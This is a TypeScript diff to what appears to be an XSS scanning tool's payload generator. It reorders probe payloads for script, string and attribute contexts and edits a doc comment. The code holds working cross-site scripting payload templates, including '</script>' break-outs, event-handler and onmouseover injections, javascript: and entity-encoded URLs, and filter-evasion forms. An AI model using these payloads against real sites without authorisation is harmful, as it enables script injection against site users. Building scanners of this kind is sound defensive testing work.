@@ -145,13 +145,17 @@ function markup(k: XssMarkers): XssPayload[] {
 function scriptString(q: string, k: XssMarkers): XssPayload[] {
   return [
     { payload: `${q}-${k.m}(1)-${q}`, family: 'script string break-out' },
+    { payload: `</script>${markup(k)[0]!.payload}`, family: '</script> then event handler' },
     { payload: `${q}-${k.m}\`1\`-${q}`, family: 'no-parentheses (tagged template)' },
     { payload: `${q}-[${k.n}][+[]]-${q}`, family: 'no-letters (JSFuck-style)' },
-    ...markup(k).slice(0, 2).map((p) => ({ payload: `</script>${p.payload}`, family: `</script> then ${p.family}` })),
+    { payload: `</script>${markup(k)[1]!.payload}`, family: '</script> then no-parentheses (tagged template)' },
   ];
 }
 
-/** Payloads for one context, most common first; the check skips those the input filter stops. */
+/**
+ * Payloads for one context, the common ones first (an unfiltered point gets only the first two);
+ * the check skips those the input filter stops.
+ */
 export function payloadsFor(ctx: ReflectionContext, k: XssMarkers): XssPayload[] {
   const { m, n } = k;
   switch (ctx.kind) {
@@ -178,18 +182,12 @@ export function payloadsFor(ctx: ReflectionContext, k: XssMarkers): XssPayload[]
         ];
       return [
         { payload: `\n${m}(1);//`, family: 'comment break-out' },
+        { payload: `</script>${markup(k)[0]!.payload}`, family: '</script> then event handler' },
         { payload: `\n[${n}][+[]];//`, family: 'no-letters (JSFuck-style)' },
-        ...markup(k).slice(0, 1).map((p) => ({ payload: `</script>${p.payload}`, family: `</script> then ${p.family}` })),
       ];
     case 'attr': {
       const out: XssPayload[] = [];
-      if (ctx.urlStart)
-        out.push(
-          { payload: `javascript:${m}(1)`, family: 'javascript: URL' },
-          { payload: `JavaScript:${m}(1)`, family: 'case variant' },
-          { payload: `&#106;avascript:${m}(1)`, family: 'entity-encoded javascript:' },
-          { payload: `javascript:${m}\`1\``, family: 'no-parentheses (tagged template)' },
-        );
+      if (ctx.urlStart) out.push({ payload: `javascript:${m}(1)`, family: 'javascript: URL' });
       // a leading value: after "class=" the parser skips spaces, so the handler must follow one
       if (ctx.quote === null) out.push(...HANDLERS(m).map(([h, family]) => ({ payload: `x ${h}`, family })));
       else {
@@ -199,6 +197,13 @@ export function payloadsFor(ctx: ReflectionContext, k: XssMarkers): XssPayload[]
         out.push(...HANDLERS(m).slice(1).map(([h, family]) => ({ payload: `${q} ${h} x=${q}`, family })));
         out.push({ payload: `${q}/onmouseover=${m}(1)/x=${q}`, family: 'no-space' });
       }
+      // the variants of a URL come last: the break-outs above are the common case
+      if (ctx.urlStart)
+        out.push(
+          { payload: `JavaScript:${m}(1)`, family: 'case variant' },
+          { payload: `&#106;avascript:${m}(1)`, family: 'entity-encoded javascript:' },
+          { payload: `javascript:${m}\`1\``, family: 'no-parentheses (tagged template)' },
+        );
       return out;
     }
   }
